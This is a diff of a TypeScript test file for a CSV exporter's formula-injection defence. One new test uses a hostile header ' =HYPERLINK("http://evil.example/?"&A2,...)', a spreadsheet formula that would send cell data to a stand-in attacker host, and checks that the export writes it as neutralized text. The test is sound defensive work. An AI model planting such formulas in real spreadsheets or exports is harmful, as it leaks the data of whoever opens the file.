@@ -1,7 +1,10 @@
 import fs from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
-import { csvRecord, neutralize, quoteField } from "../../../src-main/export/csv.ts";
+import { main } from "../../../src-main/cli/main.ts";
+import { csvRecord, quoteField } from "../../../src-main/export/csv.ts";
+import { neutralizeFormula } from "../../../src-preload/contract/csv-formula.ts";
+import { tmpDir, workspaceWith } from "./helpers.ts";
 
 const fixture = JSON.parse(
   fs.readFileSync(path.join(import.meta.dirname, "../../fixtures/export/formula-injection.json"), "utf8"),
@@ -23,13 +26,37 @@ describe("RFC 4180 fields", () => {
 
 describe("formula neutralization", () => {
   it("prefixes every formula payload of the fixture with an apostrophe", () => {
-    for (const [input, expected] of fixture.dangerous) expect(neutralize(input)).toBe(expected);
+    for (const [input, expected] of fixture.dangerous)
+      expect(neutralizeFormula(input), JSON.stringify(input)).toBe(expected);
   });
   it("leaves plain numbers and ordinary text alone", () => {
-    for (const v of fixture.harmless) expect(neutralize(v)).toBe(v);
+    for (const v of fixture.harmless) expect(neutralizeFormula(v), JSON.stringify(v)).toBe(v);
   });
   it("neutralizes inside records but not in verbatim cells", () => {
     expect(csvRecord(["=1+1", "+14155552671"], [false, true])).toBe("'=1+1,+14155552671\r\n");
     expect(csvRecord(["\r=1+1"])).toBe('"\'\r=1+1"\r\n');
+  });
+  it("neutralizes header cells: an attribute named like a formula is written as text", async () => {
+    // a security review exported an attribute named ` =HYPERLINK(...)` from `--preset csv` as-is:
+    // values are trimmed before export, names are not, and the leading space hid the formula
+    const dir = tmpDir();
+    const hostile = ' =HYPERLINK("http://evil.example/?"&A2,"x")';
+    const ws = workspaceWith(dir, [{ externalId: "u1", attributes: { [hostile]: "v", plan: "pro" } }]);
+    const file = ws.path;
+    ws.close();
+    const out = path.join(dir, "o.csv");
+    const code = await main(["export", file, "--segment", '{"all": []}', "--preset", "csv", "--out", out], {
+      out: () => {},
+      err: () => {},
+      stdin: async () => "",
+    });
+    expect(code).toBe(0);
+    const headerLine =
+      fs
+        .readFileSync(out, "utf8")
+        .replace(/^\uFEFF/, "")
+        .split("\r\n")[0] ?? "";
+    expect(headerLine).toContain(`"' =HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
+    expect(headerLine).not.toMatch(/(^|,)" ?=/);
   });
 });
